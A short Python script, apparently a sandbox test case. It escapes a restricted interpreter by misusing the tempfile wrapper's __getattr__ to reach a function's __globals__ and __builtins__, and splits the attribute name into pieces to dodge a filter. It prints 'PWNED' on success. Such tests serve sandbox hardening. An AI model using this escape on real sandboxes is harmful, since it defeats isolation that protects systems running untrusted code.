# needs: tempfile

import tempfile


class Fake:
    pass


def function():
    pass


Wrapper = type(tempfile.NamedTemporaryFile())


class Mine(Wrapper):
    pass


fake = Fake()
fake.file = function
print("PWNED", Mine.__getattr__(fake, "__glo" + "bals__")["__builtins__"])
